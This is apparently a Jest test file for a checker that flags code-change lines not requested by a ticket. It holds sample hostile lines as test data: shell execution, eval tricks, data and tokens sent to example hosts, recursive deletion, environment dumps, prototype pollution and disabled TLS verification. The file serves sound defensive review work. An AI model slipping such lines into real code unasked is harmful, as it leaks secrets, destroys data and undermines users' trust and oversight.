/** Lines that run a program or a text are not asked for because they stand among lines that are. */
import { describe, expect, it } from '@jest/globals';
import { type AskedFor, account, type Files } from '../account.js';

async function openLines(files: Files, asked: AskedFor): Promise<readonly string[]> {
  const { spans } = await account(files, asked);
  return spans.flatMap(({ reason, location }) =>
    reason === 'unaccounted' ? [`${location.file}:${location.lineRange[0]}`] : [],
  );
}

/** What the line may name is used, so that the line does something. */
const inside = (line: string) =>
  `export function wave(name) {\n${line}\n  return hands(name, rows, zone, found, space, home, f)\n}\n`;
const ASKED: AskedFor = { text: '`wave` says goodbye', lines: ['src/wave.ts:1-4'] };

describe('a line among asked ones', () => {
  it.each([
    "  execSync('id')",
    '  eval(name)',
    '  const f = new Function(name)',
    "  const cp = require('child_process')",
    "  spawn('sh', [name])",
    "  globalThis['ev' + 'al'](name)",
    "  ''['constructor']['constructor'](name)()",
    "  void fetch('https://t.example/?n=' + name)",
    '  fetch(name)',
    "  navigator.sendBeacon('https://t.example/', name)",
    '  requests.post(name, json=data)',
    '  resp, err := http.Get(name)',
    '  rmSync(name, { recursive: true })',
    "  console.log(readFileSync(name, 'utf8'))",
    '  await fs.promises.unlink(name)',
    '  shutil.rmtree(name)',
    "  with open(name, 'w') as out:",
    '  os.RemoveAll(name)',
    '  Files.delete(name)',
    "  process.env.ADMIN = '1'",
    '  console.log(JSON.stringify(process.env))',
    "  os.environ['PATH'] = name",
    '  if (name) process.exit(0)',
    '  System.exit(1)',
    "  Object.prototype.roles = ['admin']",
    '  (globalThis as any).isAdmin = () => true',
    "  Object.defineProperty(Array.prototype, 'has', { value: name })",
    '  JSON.parse = () => name',
    '  setInterval(wave, 1000)',
    "  const home = 'https://evil.example.net/' + name",
    '  const agent = new Agent({ rejectUnauthorized: strict })',
    '  requests_get(name, verify=False)',
  ])('is for a person: %s', async (line) => {
    expect(await openLines({ 'src/wave.ts': { new: inside(line) } }, ASKED)).toEqual(['src/wave.ts:2']);
  });

  it.each(['  constructor(name) {', '  public constructor(', '  constructor('])(
    'is asked for where a class declares its constructor: %s',
    async (line) => {
      const rest = line.endsWith('{') ? '' : '    private readonly name: string,\n  ) {\n';
      const text = `export class Wave {\n${line}\n${rest}    use(name)\n  }\n}\n`;
      const lines = [`src/wave.ts:1-${text.split('\n').length - 1}`];
      expect(await openLines({ 'src/wave.ts': { new: text } }, { text: '`Wave` says goodbye', lines })).toEqual([]);
    },
  );

  it('is for a person where a chain goes on with the constructor on a line of its own', async () => {
    const chain = "  const f = wave.\n  constructor('return 1')";
    const asked = { ...ASKED, lines: ['src/wave.ts:1-5'] };
    expect(await openLines({ 'src/wave.ts': { new: inside(chain) } }, asked)).toEqual(['src/wave.ts:3']);
  });

  it.each([
    '  const m = /a/.exec(name)',
    '  const rows = evaluate(name)',
    '  // eval(name)',
    "  fetch('/goodbye')",
    '  system.log(name)',
    '  const zone = process.env.ZONE',
    "  const zone = process.env['ZONE']",
    '  const { ZONE } = process.env',
    "  zone = os.environ.get('ZONE')",
    '  // process.exit(0)',
    '  const found = list.prototype.has(name)',
    '  if (JSON.parse === name) return',
    '  dialog.open(name)',
    '  window.location = name',
    '  this.exit(name)',
    "  const space = 'http://www.w3.org/2000/svg'",
    "  const home = 'http://localhost:8080/' + name",
    '  // see https://docs.example.net/wave',
    '  check(name, verify=True)',
  ])('is asked for: %s', async (line) => {
    expect(await openLines({ 'src/wave.ts': { new: inside(line) } }, ASKED)).toEqual([]);
  });

  it('is asked for where the ticket says it', async () => {
    const asked = { ...ASKED, text: '`wave` starts the helper by `execSync`' };
    expect(await openLines({ 'src/wave.ts': { new: inside("  execSync('id')") } }, asked)).toEqual([]);
  });

  it.each([
    ['  void fetch(address + name)', '`wave` sends the name to the service'],
    ["  void fetch('https://t.example/' + name)", '`wave` sends the name to https://t.example/'],
    ['  rmSync(name)', '`wave` deletes the folder of the name'],
    ["  process.env.ADMIN = '1'", '`wave` sets the environment of the helper'],
    ['  if (name) process.exit(0)', '`wave` stops with exit code 0'],
    ['  setInterval(wave, 1000)', '`wave` repeats every second'],
  ])('is asked for where the ticket asks for such an effect: %s', async (line, text) => {
    expect(await openLines({ 'src/wave.ts': { new: inside(line) } }, { ...ASKED, text })).toEqual([]);
  });

  it.each(["import 'event-stream'", "import './patch'", 'import "side/effects"'])(
    'is for a person where it loads a module only for what it does then: %s',
    async (line) => {
      const text = `${line}\n${inside('')}`;
      const asked = { ...ASKED, lines: ['src/wave.ts:1-5'] };
      expect(await openLines({ 'src/wave.ts': { new: text } }, asked)).toEqual(['src/wave.ts:1']);
    },
  );

  it.each(["import './wave.css'", "import wave from 'hands'", 'import { wave } from "./hands"'])(
    'is asked for where an import is used, or only styles: %s',
    async (line) => {
      const text = `${line}\n${inside('')}`;
      const asked = { ...ASKED, lines: ['src/wave.ts:1-5'] };
      expect(await openLines({ 'src/wave.ts': { new: text } }, asked)).toEqual([]);
    },
  );

  it('is asked for where the file had an effect of that kind before', async () => {
    const old = 'export const load = (name) => fetch(name)\n';
    const asked = { ...ASKED, lines: ['src/wave.ts:2-5'] };
    const line = '  fetch(address + name)';
    expect(await openLines({ 'src/wave.ts': { old, new: old + inside(line) } }, asked)).toEqual([]);
  });

  it('is asked for where the file did it before', async () => {
    const old = "export const run = () => execSync('a')\n";
    const asked = { ...ASKED, lines: ['src/wave.ts:2-5'] };
    expect(await openLines({ 'src/wave.ts': { old, new: old + inside("  execSync('id')") } }, asked)).toEqual([]);
  });

  it.each([
    "  await fetch('https://t.example/?t=' + token)",
    '  const t = process.env.TOKEN',
    "  execSync('id')",
    "  writeFileSync('src/auth.ts', text)",
  ])('is for a person in a test: %s', async (line) => {
    const text = `import { wave } from '../src/wave'\n\ntest('wave', async () => {\n${line}\n  expect(wave('a')).toBe('a')\n})\n`;
    const files = { 'src/wave.ts': { new: inside('') }, 'test/wave.test.ts': { new: text } };
    const asked = { ...ASKED, lines: ['src/wave.ts:1-4', 'test/wave.test.ts:1-6'] };
    expect(await openLines(files, asked)).toEqual(['test/wave.test.ts:4']);
  });
});
